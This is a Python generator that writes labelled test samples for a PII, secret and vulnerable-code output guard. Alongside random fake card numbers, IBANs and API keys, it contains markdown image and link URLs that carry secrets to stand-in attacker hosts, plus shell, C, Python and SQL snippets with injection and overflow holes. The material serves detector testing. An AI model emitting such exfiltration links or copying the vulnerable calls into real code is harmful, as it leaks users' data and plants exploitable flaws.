#!/usr/bin/env python3
"""gen_samples.py - write samples.jsonl, llmos's own labelled samples for the output guard's
rule detectors (tests/security/test_guard_samples.c computes precision and recall from them).

Each line: {"text": ..., "labels": [detector, ...], "note": ...}. For every detector there are
findings in varied contexts and near misses that must NOT fire: card numbers that fail Luhn or
have no brand, IBANs with wrong check digits or lengths, key-shaped placeholders, public keys
and certificates, words and identifiers, addresses without a domain, dates and versions,
harmless links, safe variants of each vulnerable call. Deterministic (seeded): run it again and
the file is the same. The samples were written by the author of the detectors; figures on them
say the detectors do what they were written to do, not how they fare on outside text.
"""
import base64, json, random, string, sys

# gen_samples.py [SEED OUT]: the default writes samples.jsonl (seed 18, the samples the detectors
# were corrected against); another seed writes a held-out set of the same shapes with other
# random values (heldout.jsonl, seed 1919), never used to correct them.
SEED = int(sys.argv[1]) if len(sys.argv) > 1 else 18
OUT = sys.argv[2] if len(sys.argv) > 2 else "samples.jsonl"
R = random.Random(SEED)
out = []

def add(text, labels, note):
    out.append({"text": text, "labels": sorted(set(labels)), "note": note})

def digits(n):
    return "".join(R.choice(string.digits) for _ in range(n))

def alnum(n, alphabet=string.ascii_letters + string.digits):
    while True:
        s = "".join(R.choice(alphabet) for _ in range(n))
        if any(c.isdigit() for c in s) and any(c.isalpha() for c in s):
            return s

def luhn_digit(body):
    total = 0
    for i, ch in enumerate(reversed(body)):
        d = int(ch)
        if i % 2 == 0:
            d *= 2
            if d > 9:
                d -= 9
        total += d
    return str((10 - total % 10) % 10)

def card(prefix, length):
    body = prefix + digits(length - len(prefix) - 1)
    return body + luhn_digit(body)

def group(num, sizes, sep):
    parts, i = [], 0
    for s in sizes:
        parts.append(num[i:i + s])
        i += s
    return sep.join(parts)

SENT = [
    "Please charge {} for the order.", "The card on file is {}.", "Card number: {}",
    "I paid with {} yesterday.", "Use {} and the code on the back.", "{} expires 04/27.",
    "Billing: {}, name Jane Roe.", "Here you go: {}",
]

# ---- credit cards --------------------------------------------------------------------------
brands = [("4", 16), ("4", 13), ("51", 16), ("55", 16), ("2221", 16), ("34", 15), ("37", 15),
          ("6011", 16), ("65", 16), ("3530", 16), ("36", 14), ("62", 16), ("4", 19)]
for i in range(26):
    pre, n = brands[i % len(brands)]
    c = card(pre, n)
    if n == 16 and i % 3 == 1:
        c = group(c, [4, 4, 4, 4], " ")
    elif n == 16 and i % 3 == 2:
        c = group(c, [4, 4, 4, 4], "-")
    elif n == 15 and i % 2:
        c = group(c, [4, 6, 5], " ")
    add(R.choice(SENT).format(c), ["credit_card"], "card")
for i in range(26):
    pre, n = brands[i % len(brands)]
    c = card(pre, n)
    kind = i % 5
    if kind == 0:  # last digit off: fails Luhn
        c = c[:-1] + str((int(c[-1]) + 1 + R.randrange(8)) % 10)
        note = "fails Luhn"
    elif kind == 1:  # passes Luhn but no card brand starts with 9 or 1
        body = R.choice("19") + digits(14)
        c = body + luhn_digit(body)
        note = "Luhn ok, no brand"
    elif kind == 2:  # too short
        c = c[:12]
        note = "12 digits"
    elif kind == 3:  # mixed separators
        c = group(card("4", 16), [4, 4, 4, 4], " ")
        c = c[:9] + "-" + c[10:]
        note = "mixed separators"
    else:  # a 20-digit reference
        c = digits(20)
        note = "20 digits"
    if kind == 0 and i % 2:
        c = group(c, [4, 4, 4, 4], " ") if len(c) == 16 else c
    add(R.choice(["Order {} shipped.", "Reference {}.", "Tracking: {}", "Invoice {} is due.",
                  "The number {} is not a card."]).format(c), [], "card near miss: " + note)

# ---- IBANs ---------------------------------------------------------------------------------
iban_len = {"DE": 22, "GB": 22, "FR": 27, "NL": 18, "ES": 24, "IT": 27, "BE": 16, "CH": 21,
            "AT": 20, "SE": 24, "PL": 28, "NO": 15, "DK": 18, "IE": 22, "PT": 25, "FI": 18}

def iban(cc):
    n = iban_len[cc]
    if cc in ("GB", "IE", "NL"):
        bban = "".join(R.choice(string.ascii_uppercase) for _ in range(4)) + digits(n - 8)
    elif cc in ("FR", "IT"):
        bban = digits(n - 4)
    else:
        bban = digits(n - 4)
    rearranged = bban + cc + "00"
    num = "".join(str(int(ch, 36)) for ch in rearranged)
    check = 98 - int(num) % 97
    return cc + "%02d" % check + bban

def spaced(s):
    return " ".join(s[i:i + 4] for i in range(0, len(s), 4))

ccs = list(iban_len)
for i in range(26):
    x = iban(ccs[i % len(ccs)])
    if i % 2:
        x = spaced(x)
    add(R.choice(["Transfer to {} please.", "IBAN: {}", "My account is {}.", "Send the refund to {}",
                  "Beneficiary IBAN {} (Jane Roe)"]).format(x), ["iban"], "iban")
for i in range(26):
    x = iban(ccs[i % len(ccs)])
    kind = i % 4
    if kind == 0:
        x = x[:2] + "%02d" % ((int(x[2:4]) + 1 + R.randrange(50)) % 97 + 2) + x[4:]
        note = "wrong check digits"
    elif kind == 1:
        x = x[:-1]
        note = "one character short"
    elif kind == 2:
        x = x + str(R.randrange(10))
        note = "one character long"
    else:
        x = "XQ" + x[2:]
        note = "not a country"
    if i % 2:
        x = spaced(x)
    add(R.choice(["Code {} in the ledger.", "Account ref {}.", "See {} above."]).format(x), [],
        "iban near miss: " + note)

# ---- API keys ------------------------------------------------------------------------------
UP = string.ascii_uppercase + string.digits
URL = string.ascii_letters + string.digits + "_-"
keys = [
    lambda: "AKIA" + alnum(16, UP), lambda: "ASIA" + alnum(16, UP),
    lambda: "ghp_" + alnum(36), lambda: "gho_" + alnum(36), lambda: "ghs_" + alnum(36),
    lambda: "github_pat_" + alnum(82, URL), lambda: "glpat-" + alnum(20, URL),
    lambda: "sk-ant-api03-" + alnum(93, URL), lambda: "sk-proj-" + alnum(56, URL),
    lambda: "sk-" + alnum(48), lambda: "xoxb-" + digits(12) + "-" + digits(13) + "-" + alnum(24),
    lambda: "sk_live_" + alnum(24), lambda: "rk_live_" + alnum(30), lambda: "AIza" + alnum(35, URL),
    lambda: "hf_" + "".join(R.choice(string.ascii_letters) for _ in range(34)),
    lambda: "npm_" + alnum(36),
    lambda: "eyJhbGciOiJIUzI1NiJ9." + base64.urlsafe_b64encode(
        json.dumps({"sub": digits(8), "exp": int(digits(10))}).encode()).decode().rstrip("=")
    + "." + alnum(43, URL),
]
KEYSENT = ["export API_KEY={}", "The token is {}", "Authorization: Bearer {}", "key = \"{}\"",
           "Use {} to log in.", "config: {{\"token\": \"{}\"}}"]
for i in range(30):
    add(R.choice(KEYSENT).format(keys[i % len(keys)]()), ["api_key"], "key")
near = [
    "AKIA" + "X" * 16, "AKIA" + alnum(12, UP), "ghp_" + "x" * 36, "ghp_" + "0123456789" * 3,
    "sk-learn is a library", "the task-force met", "glpat-" + alnum(12, URL),
    "xoxb-your-token-here", "sk_live_xxxxxxxxxxxxxxxxxxxxxxxx", "AIzaSy...", "hf_token",
    "npm_config_cache", "AKIA_PREFIX_CONSTANT", "use the sk- prefix for secret keys",
    "eyJ is how a JWT begins", "github_pat_ followed by 82 characters",
    "set OPENAI_API_KEY in the environment", "ghp_ tokens start with ghp_",
    "rk_live_ keys are restricted", "ASIA is a continent", "AKIAIOSFODNN7", "sk-ant-",
    "token=<your token>", "ghs_" + "abc123" * 3, "sk-" + "ab12" * 4, "xoxp-1234",
]
for i, n in enumerate(near):
    add("Note: " + n, [], "key near miss")

# ---- private keys --------------------------------------------------------------------------
def b64(n):
    return base64.b64encode(bytes(R.randrange(256) for _ in range(n))).decode()

def pem(label, lines=4):
    body = "\n".join(b64(48) for _ in range(lines))
    return "-----BEGIN %s-----\n%s\n-----END %s-----" % (label, body, label)

labels = ["RSA PRIVATE KEY", "EC PRIVATE KEY", "PRIVATE KEY", "OPENSSH PRIVATE KEY",
          "ENCRYPTED PRIVATE KEY", "DSA PRIVATE KEY", "PGP PRIVATE KEY BLOCK"]
for i in range(21):
    p = pem(labels[i % len(labels)], 2 + i % 4)
    if i % 5 == 4:
        p = p[: len(p) // 2]  # cut off
    add(R.choice(["Here is the key:\n{}\n", "{}", "Save this as id_rsa:\n{}\nthen chmod 600."]).format(p),
        ["private_key"], "pem")
for i, lab in enumerate(["PUBLIC KEY", "CERTIFICATE", "CERTIFICATE REQUEST", "RSA PUBLIC KEY",
                         "PGP PUBLIC KEY BLOCK", "X509 CRL", "DH PARAMETERS"] * 3):
    add("The file holds:\n%s\n" % pem(lab, 2), ["high_entropy"] if False else [],
        "pem near miss: " + lab)
for t in ["Keep your private key in ~/.ssh/id_ed25519 and never share it.",
          "The BEGIN PRIVATE KEY line marks where the key starts.",
          "ssh-keygen writes the private key and the public key.",
          "-----BEGIN is how PEM blocks start"]:
    add(t, [], "pem near miss: prose")

# ---- high-entropy tokens -------------------------------------------------------------------
for i in range(26):
    kind = i % 3
    if kind == 0:
        tok = alnum(R.randrange(24, 48))
    elif kind == 1:
        tok = "".join(R.choice("0123456789abcdef") for _ in range(R.choice([32, 40, 64])))
    else:
        tok = base64.b64encode(bytes(R.randrange(256) for _ in range(R.randrange(24, 40)))).decode()
    add(R.choice(["secret: {}", "SESSION_SECRET={}", "The signing key is {} (keep it).",
                  "password {}", "webhook secret {}"]).format(tok), ["high_entropy"], "entropy")
words = ["getUserAccountInformation", "internationalization", "ThisIsAVeryLongCamelCaseName",
         "/usr/local/lib/python3.11/site-packages", "snake_case_variable_with_words",
         "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "0000000000000000000000000000000000000000",
         "v1.22.3-rc4+build.5678", "HTTP_X_FORWARDED_FOR_HEADER", "com.example.project.module.Main",
         "550e8400-e29b-41d4-a716-446655440000", "my-long-kebab-case-file-name-2024.txt",
         "counterrevolutionaries", "SELECT_ALL_FROM_USERS_TABLE", "AbCdEfGhIjKlMnOpQrStUvWxYz",
         "1234567890123456789012345", "TestCase_Login_Should_Fail_3", "electroencephalography",
         "README_FOR_CONTRIBUTORS_v2", "pneumonoultramicroscopic", "x86_64-linux-gnu-gcc-12",
         "libllmos_static_archive_v1", "Content-Security-Policy", "application/x-www-form-urlencoded",
         "ISO-8859-1-compatible-encoding", "Mississippi_River_Basin_1927"]
for w in words:
    add("The name is " + w + " here.", [], "entropy near miss")

# ---- e-mail --------------------------------------------------------------------------------
first = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy"]
doms = ["example.com", "mail.example.org", "corp.example.co.uk", "uni-example.edu", "example.io"]
for i in range(26):
    local = R.choice(first) + R.choice(["", ".smith", "_99", "+news", "-ops", "2024"])
    add(R.choice(["Write to {}.", "Contact: {}", "cc {} on it", "<{}>", "(mail {})",
                  "My address is {}"]).format(local + "@" + R.choice(doms)), ["email"], "email")
for t in ["user@localhost", "the @mention feature", "name at example dot com", "foo@bar",
          "a@b.c", "john.doe@", "@example.com", "use @dataclass(frozen=True)", "email@.com",
          "x@-example.com", "git@github", "ping me @alice", "price@5", "me@example.", "@@",
          "the @ sign", "admin@@example.com", "join #general@slack", "tag v1@2", "@media screen",
          "user@example.c0m", "@Override", "npm i @types/node", "a @ b.com", "weird@exa_mple.com",
          "send to user[at]example.com"]:
    add("Note: " + t, [], "email near miss")

# ---- phone numbers -------------------------------------------------------------------------
phones = ["+1 415 555 0132", "+44 20 7946 0958", "(415) 555-0132", "415-555-0132",
          "415.555.0132", "+49 30 1234567", "020 7946 0958", "+33 1 42 68 53 00",
          "+1-202-555-0173", "(212) 555-0198", "+61 2 9876 5432", "0161 496 0000",
          "+81 3-1234-5678", "+34 912 345 678", "212 555 0147", "+39 06 1234 5678",
          "+1 (650) 555-0111", "0049 30 1234567", "+46 8 123 456 78", "+91 98765 43210",
          "030 1234 5678", "+353 1 234 5678", "646-555-0100", "+27 21 123 4567",
          "+86 10 1234 5678", "(303) 555-0199"]
for p in phones:
    add(R.choice(["Call me at {}.", "Phone: {}", "Reach the office on {}", "tel. {}",
                  "My number is {}, evenings."]).format(p), ["phone"], "phone")
for t in ["on 2024-01-15", "version 1.2.3.4", "server 10.0.0.1", "ISBN 978-3-16-148410-0",
          "at 12:30:45", "cost $1,234,567", "ext 4567", "ZIP 94107-1234", "call 1-800-FLOWERS",
          "room 4-115", "2023.11.05", "ratio 16:9", "build 20240115", "chapter 3.4.5",
          "pages 100-200", "id 123456", "year 1999-2003", "3.14159265", "4 8 15 16 23 42",
          "lat 37.7749 lon -122.4194", "192.168.1.254", "0.5 mg", "5 x 10 x 20 cm",
          "order #415", "code 12-34", "tel: n/a"]:
    add("Note: " + t, [], "phone near miss")

# ---- exfiltration URLs ---------------------------------------------------------------------
hosts = ["evil.example", "attacker.test", "collect.example.net", "x.example-cdn.io", "log.example.org"]
for i in range(26):
    h = R.choice(hosts)
    secret = R.choice([base64.urlsafe_b64encode(("user=bob;token=" + alnum(16)).encode()).decode(),
                       "".join(R.choice("0123456789abcdef") for _ in range(32)),
                       "bob%40corp.example%20pw%3D" + alnum(6), alnum(24)])
    kind = i % 4
    if kind == 0:
        t = "![loading](https://%s/pixel.png?d=%s)" % (h, secret)
    elif kind == 1:
        t = "[click here](https://%s/c/%s)" % (h, secret)
    elif kind == 2:
        t = "<img src=\"https://%s/i.gif?q=%s\">" % (h, secret)
    else:
        t = "Visit https://%s/collect?data=%s now" % (h, secret)
    add("Summary done. " + t, ["exfil_url"], "exfil")
for t in ["![logo](https://cdn.example.com/logo.png)", "[docs](https://example.com/docs/getting-started)",
          "see https://example.org/search?q=hello+world", "https://example.com/page?lang=en",
          "[next](https://example.com/blog/2024/01/how-to-install-python)", "https://example.com/?page=2",
          "![chart](https://example.com/charts/sales-q3.svg)", "https://en.example.org/wiki/Main_Page",
          "http://localhost:8080/v1/models", "[repo](https://git.example.com/org/project)",
          "https://example.com/user/settings/profile", "https://example.com/a/b/c/d/e/f",
          "![](https://example.com/img/cat.jpg)", "https://example.com/search?q=llmos&sort=new",
          "https://docs.example.com/api/v2/reference#authentication",
          "[pdf](https://example.com/files/annual-report-2023.pdf)",
          "https://example.com/downloads/llmos-1.2.3-linux-x86_64.tar.gz",
          "https://example.com/path/to/some-page.html?utm_source=newsletter",
          "https://maps.example.com/?ll=37.77,-122.41&z=12", "https://example.com/#section-2",
          "ftp is not http", "https:// alone", "[x](#anchor)", "![alt](./local/image.png)",
          "https://example.com/issues/1234", "https://example.com/releases/tag/v2.0.1"]:
    add("Note: " + t, [], "exfil near miss")

# ---- vulnerable code -----------------------------------------------------------------------
c_pos = ["    strcpy(buf, argv[1]);", "strcat(path, user_input);", "    gets(line);",
         "sprintf(msg, \"Hello %s\", name);", "vsprintf(out, fmt, ap);", "scanf(\"%s\", word);",
         "char b[16]; strcpy(b, s);", "if (x) strcat(dst, src);", "wcscpy(dest, source);",
         "sprintf(buf, \"%d-%s\", id, tag);", "    return strcpy(d, s);", "gets(buffer); /* read */",
         "    (void)sprintf(p, \"%s/%s\", dir, file);", "strcpy(self->name, name);",
         "for (;;) strcat(acc, next());", "sprintf(query, \"SELECT %s\", col);"]
c_neg = ["strncpy(buf, argv[1], sizeof buf - 1);", "snprintf(msg, sizeof msg, \"Hello %s\", name);",
         "fgets(line, sizeof line, stdin);", "strlcpy(dst, src, sizeof dst);", "vsnprintf(out, n, fmt, ap);",
         "scanf(\"%15s\", word);", "memcpy(dst, src, n);", "my_strcpy_safe(dst, src, n);",
         "Never use strcpy on untrusted input.", "she gets a coffee", "str_cpy(a, b);",
         "strncat(path, user_input, room);", "asprintf(&msg, \"%s\", name);", "sprintf is unsafe",
         "the gets function was removed in C11", "fprintf(stderr, \"%s\", msg);"]
for t in c_pos:
    add("```c\n" + t + "\n```", ["vuln_c"], "c")
for t in c_neg:
    add("```c\n" + t + "\n```", [], "c near miss")
py_pos = ["subprocess.run(f\"ls {path}\", shell=True)", "subprocess.call(\"rm -rf \" + target, shell=True)",
          "os.system(\"ping \" + host)", "os.system(f\"convert {src} {dst}\")", "result = eval(input())",
          "exec(request.args[\"code\"])", "subprocess.Popen(cmd, shell=True)", "data = pickle.loads(blob)",
          "cfg = yaml.load(open(path))", "value = eval(user_expr)", "os.popen(\"cat \" + name).read()",
          "subprocess.check_output(\"grep %s log\" % pat, shell=True)", "exec(code_from_user)",
          "subprocess.getoutput(\"whois \" + domain)", "obj = pickle.load(f)",
          "subprocess.run(\"tar xf {}\".format(archive), shell = True)"]
py_neg = ["subprocess.run([\"ls\", path])", "subprocess.run(\"ls -l\", shell=True)", "os.system(\"clear\")",
          "ast.literal_eval(text)", "eval(\"1 + 2\")", "subprocess.run(cmd_list, check=True)",
          "yaml.load(f, Loader=yaml.SafeLoader)", "yaml.safe_load(f)", "json.loads(blob)",
          "evaluate(model)", "model.eval()", "self.exec_count += 1", "shlex.quote(name)",
          "# never use shell=True with input", "subprocess.run([\"grep\", pat, \"log\"])",
          "execute_plan(steps)"]
for t in py_pos:
    add("```python\n" + t + "\n```", ["vuln_python"], "python")
for t in py_neg:
    add("```python\n" + t + "\n```", [], "python near miss")
sql_pos = ["cur.execute(\"SELECT * FROM users WHERE name = '\" + name + \"'\")",
           "cur.execute(f\"SELECT * FROM users WHERE id = {uid}\")",
           "q = \"DELETE FROM items WHERE id = %s\" % item_id",
           "db.query(\"UPDATE accounts SET balance = {} WHERE id = {}\".format(b, i))",
           "const q = `SELECT * FROM orders WHERE user = '${user}'`;",
           "sql = \"INSERT INTO log VALUES ('\" + msg + \"')\"",
           "conn.execute(f\"DROP TABLE {table}\")", "query = 'SELECT name FROM t WHERE x=' + x",
           "String q = \"SELECT * FROM users WHERE email = '\" + email + \"'\";",
           "cursor.execute(\"SELECT * FROM t WHERE a = '%s'\" % a)",
           "$q = \"SELECT * FROM users WHERE id = \" . $id;",
           "rows = db.execute(f\"SELECT * FROM posts WHERE tag = '{tag}'\")",
           "stmt = \"UPDATE t SET v = \" + str(v)", "q = f'DELETE FROM t WHERE id={i}'",
           "run(\"SELECT * FROM a WHERE b = \" + b)", "sql = 'SELECT * FROM t WHERE n = {}'.format(n)"]
sql_neg = ["cur.execute(\"SELECT * FROM users WHERE id = %s\", (uid,))",
           "cur.execute(\"SELECT * FROM users WHERE name = ?\", (name,))",
           "db.query(\"UPDATE accounts SET balance = $1 WHERE id = $2\", [b, i])",
           "SELECT * FROM users WHERE id = 1;", "q = \"SELECT count(*) FROM items\"",
           "stmt = conn.prepare(\"DELETE FROM t WHERE id = ?\")",
           "Select the option you want.", "\"select a file\" + suffix", "f\"Update your profile, {name}\"",
           "session.query(User).filter_by(name=name)", "\"insert coin\" + \" to play\"",
           "-- SELECT * FROM t WHERE x = 'a'", "cur.executemany(\"INSERT INTO t VALUES (?, ?)\", rows)",
           "print(\"Deleted from cache: \" + key)", "msg = f\"Dropped {n} rows\"",
           "cur.execute(sql.SQL(\"SELECT * FROM {}\").format(sql.Identifier(t)))"]
for t in sql_pos:
    add("```\n" + t + "\n```", ["vuln_sql"], "sql")
for t in sql_neg:
    add("```\n" + t + "\n```", [], "sql near miss")
sh_pos = ["eval \"$cmd\"", "eval $USER_INPUT", "eval `cat $file`", "sh -c \"$1\"", "bash -c \"$CMD\"",
          "eval \"$(curl -s $url)\"", "  eval $line", "bash -c $payload", "eval \"${args[@]}\"",
          "ssh host sh -c \"$remote\"", "if true; then eval $x; fi", "eval \"$2 $3\""]
sh_neg = ["echo \"$cmd\"", "eval is evil", "bash -c 'ls -l'", "sh -c \"make all\"", "printf '%s' \"$x\"",
          "evaluate \"$x\"", "# do not eval user input", "bash script.sh \"$1\"", "\"$cmd\" --help",
          "eval_result=$(compute)", "set -euo pipefail", "sh ./configure"]
for t in sh_pos:
    add("```sh\n" + t + "\n```", ["vuln_shell"], "shell")
for t in sh_neg:
    add("```sh\n" + t + "\n```", [], "shell near miss")

# ---- mixed and plain -----------------------------------------------------------------------
for i in range(10):
    c = card("4", 16)
    e = R.choice(first) + "@" + R.choice(doms)
    add("Name: Jane Roe, card %s, e-mail %s." % (group(c, [4, 4, 4, 4], " "), e),
        ["credit_card", "email"], "mixed")
for t in ["The meeting is on Tuesday at 10.", "Here is a summary of the document you sent.",
          "I cannot help with that.", "The answer is 42.", "Paris is the capital of France.",
          "Use a password manager and turn on two-factor authentication.",
          "The build passed in 3.2 seconds on 2 cores.", "Sorted list: 1, 2, 3, 5, 8, 13, 21."]:
    add(t, [], "plain")

with open(__file__.replace("gen_samples.py", OUT), "w") as f:
    for s in out:
        f.write(json.dumps(s, ensure_ascii=False) + "\n")
pos = sum(1 for s in out if s["labels"])
print("%d samples: %d with a finding, %d without" % (len(out), pos, len(out) - pos))
